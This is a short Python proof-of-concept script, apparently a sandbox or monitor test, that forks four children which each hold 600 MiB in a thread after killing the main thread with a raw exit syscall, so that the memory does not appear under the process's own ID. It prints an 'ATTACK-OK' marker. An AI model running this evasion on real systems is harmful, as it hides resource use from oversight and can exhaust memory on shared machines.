# a process whose first thread has ended shows no memory under its own number
import ctypes, os, platform, threading, time


def hold():
    kept = bytearray(600 << 20)
    time.sleep(3)
    os.write(1, b"ATTACK-OK held 600 MiB each\n")
    os._exit(len(kept) & 0)


for _ in range(4):
    if os.fork() == 0:
        threading.Thread(target=hold).start()
        ctypes.CDLL(None).syscall(60 if platform.machine() == "x86_64" else 93, 0)
time.sleep(4)
